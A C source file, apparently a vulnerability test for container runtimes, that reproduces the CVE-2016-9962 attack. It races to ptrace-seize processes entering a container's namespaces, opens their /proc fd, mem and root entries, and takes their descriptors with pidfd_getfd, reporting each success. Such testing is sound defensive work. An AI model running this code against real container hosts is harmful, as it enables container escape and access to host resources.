// The attack of a container on a process that enters its namespaces (CVE-2016-9962): it tries to
// trace each new process, and to take its descriptors, its memory and its root directory, as soon
// as it can be seen. Prints "seized EXE" or "took WHAT of EXE" for one that is not yet a program of
// a container, and "saw N" with the number of new processes when it ends, a second after the file
// /stop appears.

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char seen[1 << 20];

// Whether the process is already a program of a container; false if it has ended.
static int is_program(int pid, char* exe, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, exe, size - 1);
    exe[length > 0 ? length : 0] = 0;
    return strncmp(exe, "/bin/", 5) == 0;
}

static void report(int pid, const char* what) {
    char exe[512];
    // The process can have executed its program, or ended, between the attack and this look.
    if (is_program(pid, exe, sizeof exe) || exe[0] == 0) return;
    printf("took %s of %s\n", what, exe);
    fflush(stdout);
}

static void take(int pid) {
    static const char* const files[] = {"fd", "mem", "root/"};
    char path[64];
    for (unsigned i = 0; i < sizeof files / sizeof *files; ++i) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int file = open(path, O_RDONLY | O_CLOEXEC);
        if (file < 0) continue;
        report(pid, files[i]);
        close(file);
    }
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) return;
    for (int number = 0; number < 16; ++number) {
        int taken = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
        if (taken < 0) continue;
        report(pid, "a descriptor");
        close(taken);
    }
    close(pidfd);
}

static void attack(int pid) {
    char exe[512];
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    int status;
    // A process that is just exiting can be seized too, but does not stop.
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return;
    if (!is_program(pid, exe, sizeof exe)) printf("seized %s\n", exe);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    fflush(stdout);
}

int main(void) {
    int count = 0;
    int next = getpid() + 1;
    printf("ready\n");
    fflush(stdout);
    while (access("/stop", F_OK) != 0) {
        // Tries the next numbers without checking whether they exist, which is the fastest way.
        for (int pid = next; pid < next + 4; ++pid) {
            // Signal 0 only checks that the process exists.
            if (syscall(SYS_tgkill, pid, pid, 0) != 0) continue;
            if (!seen[pid]) {
                seen[pid] = 1;
                ++count;
            }
            // Keeps it until it executes a program: the attack may also succeed later. Every second
            // process is only robbed: one that is traced stops, which hides the later moments.
            for (int i = 0; i < 2000 && syscall(SYS_tgkill, pid, pid, 0) == 0; ++i)
                if (count % 2 == 0) {
                    attack(pid);
                } else {
                    take(pid);
                }
            next = pid + 1;
        }
    }
    printf("saw %d\n", count);
    return 0;
}
